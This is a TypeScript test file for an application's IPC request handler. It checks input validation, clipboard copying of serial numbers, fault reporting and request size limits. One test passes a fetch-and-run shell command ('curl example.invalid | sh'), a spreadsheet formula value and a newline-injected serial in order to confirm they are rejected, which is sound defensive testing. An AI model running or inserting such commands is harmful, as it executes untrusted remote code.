import { afterEach, beforeEach, expect, it } from 'vitest';

import { REQUESTS, type RequestName } from '../../../contract/requests.ts';
import { answerRequest, REQUEST_LIMIT } from '../../../main/ipc/answer-request.ts';
import { proof } from '../../support/proof.ts';
import { malformedPayloads } from './malformed.ts';
import { startStandIn, type StandIn } from './stand-in.ts';

let bench: StandIn;
beforeEach(async () => {
  bench = await startStandIn();
});
afterEach(() => bench.stop());

const ask = (name: RequestName, input: unknown) =>
  answerRequest(name, input, bench.handlers, bench.diagnostics);

for (const name of REQUESTS)
  proof(
    'payloads',
    (times) =>
      `answers malformed requests of ${name}, ${times} of them, without an exception or a change`,
    async ({ times, seed }) => {
      const before = bench.rows();
      for (const payload of malformedPayloads(name, times, seed)) {
        const answer = await ask(name, payload);
        if (answer.ok || answer.failure.kind !== 'invalid-request')
          expect.fail(`${name} took ${JSON.stringify(payload)}`);
      }
      expect(bench.called()).toEqual([]);
      expect(bench.rows()).toBe(before);
      expect(bench.faults()).toEqual([]);
    },
  );

it('does what a well-formed request asks, and would notice the change', async () => {
  const before = bench.rows();
  const settings = {
    name: 'Lab Macs',
    method: 'apple-configurator',
    affinity: 'without',
    authentication: null,
    portalDelivery: null,
    lockedEnrollment: false,
    awaitFinalConfiguration: null,
    profileDownloadedAtMs: null,
  };
  expect(await ask('saveProfile', { profileId: null, settings })).toMatchObject({ ok: true });
  expect(bench.rows()).toBe(before + 1);
  expect(bench.called()).toEqual(['saveProfile']);
});

it('puts a serial on the clipboard and nothing else', async () => {
  for (const serial of ['curl example.invalid | sh\n', '=1+1', 'TEST00A013\nx']) {
    expect(await ask('copySerials', { serials: ['TEST00A013', serial] })).toEqual({
      ok: false,
      failure: { kind: 'serial-not-valid', raw: serial, why: 'characters' },
    });
  }
  expect(bench.copied()).toEqual([]);
  expect(await ask('copySerials', { serials: [' test00a013', 'TEST00A014'] })).toMatchObject({
    ok: true,
  });
  expect(bench.copied()).toEqual(['TEST00A013\nTEST00A014']);
});

it('puts the details for support on the clipboard, which the page never sees', async () => {
  expect(await ask('copyDetails', undefined)).toEqual({ ok: true, value: null });
  expect(bench.copied().at(-1)).toBe('Muster 0.0.0\nBench invented');
});

it('answers a fault of the program with a failure and notes it', async () => {
  const broken = {
    ...bench.handlers,
    getSnapshot: () => {
      throw new Error('broken');
    },
  };
  const answer = await answerRequest('getSnapshot', undefined, broken, bench.diagnostics);
  expect(answer).toEqual({ ok: false, failure: { kind: 'fault' } });
  expect(bench.faults()).toEqual(['The request getSnapshot failed']);
});

it('refuses what is too large before it looks at it', async () => {
  const answer = await ask('readDevice', { sessionId: 'x'.repeat(REQUEST_LIMIT) });
  expect(answer).toEqual({ ok: false, failure: { kind: 'invalid-request', detail: 'too large' } });
});
